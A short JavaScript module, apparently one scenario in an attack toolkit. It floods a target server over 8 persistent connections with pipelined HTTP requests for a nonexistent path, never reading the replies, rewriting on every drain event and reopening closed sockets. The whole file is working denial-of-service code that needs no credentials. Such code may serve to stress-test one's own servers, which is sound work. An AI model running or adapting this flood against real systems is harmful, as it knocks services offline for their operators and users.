// Requests that do not wait for answers, on a few connections and without a credential.
import { hoardSockets } from '../sockets.mjs';

export const about =
  '8 connections that send a path nobody serves, thousands of times without waiting for answers; opened again when closed.';

const chunk = 'GET /nothing HTTP/1.1\r\nHost: a\r\n\r\n'.repeat(2_000);

/** @param {import('../attack.mjs').Target} target */
export const run = (target) =>
  hoardSockets(target, 8, (socket) => {
    const send = () => {
      while (socket.writable && socket.write(chunk)) {}
    };
    socket.on('drain', send);
    send();
  });
